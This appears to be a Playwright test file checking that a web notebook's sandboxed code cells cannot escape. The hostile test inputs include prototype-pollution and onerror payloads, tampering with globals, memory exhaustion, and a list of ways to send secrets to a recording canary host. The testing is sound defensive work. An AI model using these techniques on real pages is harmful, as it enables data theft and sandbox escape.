// Malicious cells in the built site, watched by witnesses: see witnesses.ts.
import type { Page } from "@playwright/test";
import { bareTest, patientExpect as expect } from "../visit.ts";
import { HOLD } from "./held-worker.ts";
import {
  type Hostile,
  REACHING,
  SHOWING,
  SPOILING,
  THROWN,
  WASTEFUL,
} from "./hostile-cells.ts";
import {
  expectToWork,
  openCanary,
  pageState,
  plantSecrets,
  runCell,
  runCells,
  SANDBOX,
  SECRET,
  setText,
  watch,
} from "./witnesses.ts";

interface Witnesses {
  /** A page with secrets, which only a cell could want to read or change. */
  guarded: Page;
  /** An address that records every visit. */
  canary: string;
}

/** The code that renders drawings is loaded with the first one. */
const DRAWING = `({ [Symbol.for("every-cube drawing")]: () => ({ markup: "<svg/>", label: "x" }) })`;

/** Plants secrets, and makes the page load everything that it loads for cells. */
async function prepare(page: Page): Promise<void> {
  await plantSecrets(page);
  await runCell(page, DRAWING);
  await expectToWork(page);
}

const test = bareTest.extend<Witnesses>({
  canary: async ({}, use) => {
    const canary = await openCanary();
    await use(canary.host);
    expect(canary.touched, "what has come to the canary").toEqual([]);
    canary.close();
  },
  guarded: async ({ page, canary, baseURL }, use) => {
    void canary;
    // Its cells do not see each other's names, so they can run side by side.
    await page.goto("reference/indexing/");
    await prepare(page);
    const seen = watch(page, baseURL!);
    const before = await pageState(page);
    await use(page);
    expect(await pageState(page)).toEqual(before);
    expect(seen, "leaks outside the page").toEqual([]);
    await page.close(); // with it end its workers: see held-worker.ts
  },
});

/** Elements that load, link, run or move. */
const ACTING =
  "img, script, iframe, object, embed, a, form, style, link, meta, base, image, use, foreignObject, animate, set";

/** How many cells run side by side. */
const SIDE_BY_SIDE = 13;

/** Runs some cells at once, then an ordinary one. */
async function expectHarmless(page: Page, cells: readonly [string, Hostile][]) {
  const sources = cells.map(([, { source }]) => source);
  const stop = cells.some(([, { isEndless }]) => isEndless);
  const texts = await runCells(page, sources, { stop });
  for (const [i, [name, { shows, isEndless }]] of cells.entries()) {
    expect(texts[i], name).not.toContain(SECRET);
    if (isEndless) expect(texts[i], name).toContain("Stopped.");
    if (shows) expect(texts[i], name).toMatch(shows);
  }
  const acting = page.locator("code-cell .cell-results").locator(ACTING);
  expect(await acting.count()).toBe(0);
  await expectToWork(page);
}

const GROUPS = {
  "reaches out of its worker": REACHING,
  "shows what is no harmless text": SHOWING,
  "takes more than there is from its worker": WASTEFUL,
};

test("uncaught errors end nothing, and a flood of values is contained @firefox", async ({
  page,
}) => {
  test.setTimeout(90_000);
  await page.goto("reference/indexing/");
  // Its worker holds a value that all others must leave there.
  await runCell(page, "globalThis.kept = 41;");
  for (const [name, { source, shows }] of Object.entries(THROWN)) {
    await test.step(name, async () => {
      expect(await runCell(page, source)).toMatch(shows!);
      expect(await runCell(page, "(globalThis as any).kept + 1;")).toContain("42");
    });
  }
  const flood = `import { setReaderPermutation } from "every-cube/page";\nfor (;;) setReaderPermutation([1, 0]);`;
  expect(await runCell(page, flood, { stop: true })).toContain("Stopped.");
  await expectToWork(page);
});

test("what a cell spoils or leaves running is gone with the next run @firefox", async ({
  page,
}) => {
  test.setTimeout(120_000);
  await page.goto("reference/indexing/");
  for (const [name, source] of Object.entries(SPOILING)) {
    await test.step(name, async () => {
      await runCell(page, `${source} 1`, { stop: true }); // it may never end
      const all = `[/b/.exec("abc")!.index, [1, 2].map((n) => n * 2), JSON.stringify({ a: 1 }), await Promise.all([3])].flat().join(" ")`;
      expect(await runCell(page, all)).toBe(`1\n"1 2 4 {\\"a\\":1} 3"`);
    });
  }
});

for (const [what, group] of Object.entries(GROUPS)) {
  const { length } = Object.keys(group);
  test(`no cell that ${what} does harm (${length} cells)`, async ({
    guarded,
    canary,
  }) => {
    test.setTimeout(120_000);
    const cells = Object.entries(group).map(([name, hostile]): [string, Hostile] => [
      name,
      { ...hostile, source: hostile.source.replaceAll("CANARY", canary) },
    ]);
    const isBlocking = ([, { isEndless, isLong }]: [string, Hostile]) =>
      isEndless || isLong;
    const others = cells.filter((cell) => !isBlocking(cell));
    for (let i = 0; i < others.length; i += SIDE_BY_SIDE) {
      const some = others.slice(i, i + SIDE_BY_SIDE);
      const names = some.map(([name]) => name).join(", ");
      await test.step(names, () => expectHarmless(guarded, some));
    }
    for (const cell of cells.filter(isBlocking)) {
      await test.step(cell[0], () => expectHarmless(guarded, [cell]));
    }
  });
}

/** Runs before the worker's own script, and gives its port to the cells. */
const LEAK = `addEventListener("message", ({ ports }) => { globalThis.port = ports[0]; }, { once: true });\n`;

/** Tries to obtain the worker's port: it is the target of each message. */
const TAKE_PORT = `const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data")!;
Object.defineProperty(MessageEvent.prototype, "data", {
  get() {
    (globalThis as any).port = this.target;
    return get!.call(this);
  },
}); 1`;

const BROKEN = /a cell has broken the code that runs the cells/;

/** Messages of the worker that the page ignores. */
const IGNORED = [
  { kind: "load-module", name: "http://CANARY/x.js" },
  { kind: "load-module", name: "__proto__" },
  { kind: "output", id: "nobody", output: { line: 1, text: "forged" } },
];

/** What a cell might send in the worker's name, and what its results then show. */
const FORGED: Record<string, [code: string, shows: RegExp]> = {
  "messages that the page ignores": [
    `for (const message of ${JSON.stringify(IGNORED)}) port.postMessage(JSON.stringify(message)); "sent"`,
    /"sent"/,
  ],
  "keys that change all objects": [
    `port.postMessage('{"__proto__":{"polluted":1},"kind":"pong","constructor":{"prototype":{"polluted":1}}}'); 5`,
    /5/,
  ],
  "what is no message": [
    `port.postMessage('{"kind":"output","id":"cell-1","output":{"line":1,"text":{"type":"img","props":{"src":"x","onerror":"window.done=1"}}}}')`,
    BROKEN,
  ],
  "what is no text": [`port.postMessage({ kind: "pong" })`, BROKEN],
  "text without end": [
    `port.postMessage("x".repeat(3e7)); await new Promise(() => {})`,
    /sent the page too much at once/,
  ],
  "messages without number": [
    `for (let i = 0; i < 1e5; i++) port.postMessage('{"kind":"pong"}'); ${HOLD}`,
    /sent the page too much at once/,
  ],
  "outputs without number": [
    `for (let i = 0; i < 1000; i++) port.postMessage('{"kind":"output","id":"cell-1","output":{"line":1,"text":"x"}}'); await new Promise(() => {})`,
    /shown more than the page can hold/,
  ],
  "messages with methods of one's own": [
    `MessagePort.prototype.postMessage = () => { throw 1; }; JSON.stringify = () => '{"kind":"x"}'; (globalThis as any).onmessage = null; 123`,
    /123/,
  ],
};

// Which messages are accepted is tested in test/notebook/worker/parse-message.test.ts.
test("nothing that a cell tells the page in its worker's name does harm", async ({
  guarded: page,
  canary,
}) => {
  // No cell is known to obtain its worker's port; here it is given to each.
  await page.route(/notebook-worker[^/]*\.js$/, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: LEAK + (await response.text()) });
  });
  await page.reload();
  await prepare(page);
  await test.step("silence", async () => {
    const silence = "(globalThis as any).port.close(); await new Promise(() => {})";
    expect(await runCell(page, silence, { stop: true })).toContain("Stopped.");
    await expectToWork(page);
  });
  for (const [name, [code, shows]] of Object.entries(FORGED)) {
    await test.step(name, async () => {
      const source = `const { port } = globalThis as any;\n${code}`;
      const text = await runCell(page, source.replace("CANARY", canary));
      expect(text).toMatch(shows);
      await expectToWork(page);
    });
  }
});

test("a cell that spoils its worker for the others harms no page, and Run all begins afresh", async ({
  page,
}) => {
  // Running the cells changes the page's text: only this part of its state must remain.
  const native = async () => {
    const { globals, prototypes } = await pageState(page);
    return { globals, prototypes };
  };
  await page.goto("playground/so-many-arcs/");
  await plantSecrets(page);
  await expectToWork(page);
  const before = await native();
  const SPOILT = {
    "what all objects have":
      "Object.prototype.toString = Object.prototype.valueOf = () => { throw 1; }; (Object.prototype as any).kind = 'x'; 1",
    promises: "Promise.prototype.then = () => { throw 1; }; 1",
    "the console and timers":
      "(globalThis as any).setTimeout = null; (globalThis as any).console = null; 1",
  };
  const bar = page.locator(".notebook-bar");
  const runAll = bar.getByRole("button", { name: "Run all", exact: true });
  const cell = page.locator("code-cell").first();
  for (const [what, source] of Object.entries(SPOILT)) {
    await test.step(what, async () => {
      await runCell(page, source, { stop: true });
      await expect(runAll).toBeVisible();
      await setText(page, "6 * 7");
      await runAll.click();
      await expect(cell.locator(".cell-results")).toHaveText(/^1\s*42$/);
      await expect(runAll).toBeVisible();
      await expect(cell.locator(".cell-error")).toHaveCount(0);
      await expectToWork(page);
    });
  }
  expect(await native()).toEqual(before);
});

test("a cell does not get hold of its worker's port, and even the frame around the worker can reach neither network nor storage nor page", async ({
  guarded: page,
  canary,
}) => {
  await runCell(page, TAKE_PORT);
  expect(await runCell(page, "typeof (globalThis as any).port;")).toContain(
    "undefined",
  );
  const frame = page.frames().find((one) => SANDBOX.test(one.url()))!;
  const got = await frame.evaluate(async (host) => {
    const http = `http://${host}/`;
    const load = (address: string) => import(/* @vite-ignore */ address);
    const inWorker = (code: string) =>
      new Promise<unknown>((resolve, reject) => {
        const text = `(async () => { ${code} })().then((x) => postMessage("got " + x), (e) => postMessage(String(e)));`;
        const blob = new Blob([text], { type: "text/javascript" });
        const worker = new Worker(URL.createObjectURL(blob));
        worker.onmessage = ({ data }) =>
          String(data).startsWith("got ") ? resolve(data) : reject(data);
        worker.onerror = reject;
        setTimeout(reject, 1500);
      });
    const event = (target: EventTarget, good: string, bad = "error") =>
      new Promise((resolve, reject) => {
        target.addEventListener(good, resolve);
        target.addEventListener(bad, reject);
        setTimeout(reject, 1500);
      });
    const element = (name: string, properties: object) => {
      const made = Object.assign(document.createElement(name), properties);
      document.body.append(made);
      return event(made, "load");
    };
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(http, { mode: "no-cors" }),
      socket: () => event(new WebSocket(`ws://${host}/`), "open"),
      events: () => event(new EventSource(http), "open"),
      image: () => element("img", { src: http }),
      script: () => element("script", { src: http }),
      style: () => element("link", { rel: "stylesheet", href: http }),
      frame: () =>
        element("iframe", { src: http }).then(() => {
          throw new Error("an empty one");
        }),
      module: () => load(http),
      "module as data": () => load("data:text/javascript,export default 1"),
      "module of this site": () => load("/x.js"),
      "worker elsewhere": () => event(new Worker(http), "message"),
      "fetch in a worker": () => inWorker(`return fetch("${http}")`),
      "fetch of this site in a worker": () =>
        inWorker(`return fetch("${location.ancestorOrigins?.[0]}/")`),
      "scripts in a worker": () => inWorker(`return importScripts("${http}")`),
      "socket in a worker": () =>
        inWorker(
          `const s = new WebSocket("ws://${host}/"); await new Promise((y, n) => { s.onopen = y; s.onerror = n; })`,
        ),
      "worker in a worker": () =>
        inWorker(
          `const w = new Worker(URL.createObjectURL(new Blob(["fetch('${http}').then(() => postMessage(1), () => postMessage(0))"]))); await new Promise((y, n) => { w.onmessage = ({ data }) => data ? y() : n(); w.onerror = n; })`,
        ),
      "transport in a worker": () =>
        inWorker(`await new WebTransport("https://${host}/").ready`),
      "databases in a worker": () =>
        inWorker(
          `const o = indexedDB.open("secret"); await new Promise((y, n) => { o.onsuccess = y; o.onerror = n; })`,
        ),
      "caches in a worker": () => inWorker(`return caches.keys()`),
      "font in a worker": () =>
        inWorker(`return new FontFace("x", "url(${http})").load()`),
      beacon: () => {
        if (!navigator.sendBeacon(http, "x")) throw new Error("refused");
        throw new Error("queued: the canary tells");
      },
      storage: () => localStorage.getItem("secret"),
      cookies: () => document.cookie,
      databases: () => event(indexedDB.open("secret"), "success"),
      caches: () => caches.keys(),
      page: () => parent.document.title,
      "page's address": () => {
        top!.location.href = http;
      },
      window: () => {
        if (open(http) === null) throw new Error("no window");
      },
      dialog: () => {
        if (confirm("x") === false) throw new Error("no dialog");
      },
      form: () => {
        const form = Object.assign(document.createElement("form"), { action: http });
        document.body.append(form);
        form.submit();
        throw new Error("the canary tells");
      },
    };
    const reached: string[] = [];
    await Promise.all(
      Object.entries(ways).map(async ([name, go]) => {
        try {
          await go();
          reached.push(name);
        } catch {
          // as expected
        }
      }),
    );
    return reached;
  }, canary);
  expect(got).toEqual([]);
  await expectToWork(page);
});

test("a cell that uses up all memory takes no page with it, where frames have a process of their own", async ({
  playwright,
  baseURL,
}) => {
  test.setTimeout(90_000);
  const browser = await playwright.chromium.launch({
    args: [
      "--site-per-process", // the default in desktop browsers
      "--js-flags=--max-old-space-size=256", // so that it is used up soon
    ],
  });
  const page = await browser.newPage();
  await page.goto(new URL("reference/solver/", baseURL).href);
  // Watched from a second window of the same process: the driver considers a page lost when
  // any frame in it is.
  const opened = page.waitForEvent("popup");
  const isCrashed = opened.then((other) => other.waitForEvent("crash"));
  await page.exposeFunction("untilCrashed", async () => void (await isCrashed));
  const said = await page.evaluate(async () => {
    type Cell = HTMLElement & {
      source: string;
      setText(source: string, origin: "reader"): void;
    };
    const other = open(`${location.href}?other`)!;
    const until = async <T>(get: () => T | null | undefined | false | "") => {
      for (;;) {
        try {
          const got = get();
          if (got) return got;
        } catch {
          // not there yet
        }
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
    };
    const isAwake = () =>
      (other as never as typeof window).customElements.get("code-cell");
    const cell = await until(
      () => isAwake() && other.document.querySelector<Cell>("code-cell"),
    );
    // The page's heartbeat, which would take seconds to notice.
    const beats: (() => void)[] = [];
    (other as never as typeof window).setInterval = ((act: () => void) =>
      beats.push(act)) as typeof setInterval;
    const run = async (source: string) => {
      cell.setText(source, "reader");
      await until(() => cell.source === source);
      cell.querySelector<HTMLElement>(".cell-run")!.click();
    };
    const results = () => cell.querySelector(".cell-results")!.textContent;
    await run("const all: any[] = []; for (;;) all.push(new Array(1e6).fill(1.5));");
    await (window as never as { untilCrashed(): Promise<void> }).untilCrashed();
    const asked = setInterval(() => beats.forEach((ask) => ask()), 20);
    const lost = await until(() => /Stopped/.test(results()) && results());
    clearInterval(asked);
    await run("6 * 7");
    await until(() => results() === "142");
    return lost;
  });
  expect(said).toContain("most likely because a cell used up all the memory");
  await browser.close();
});
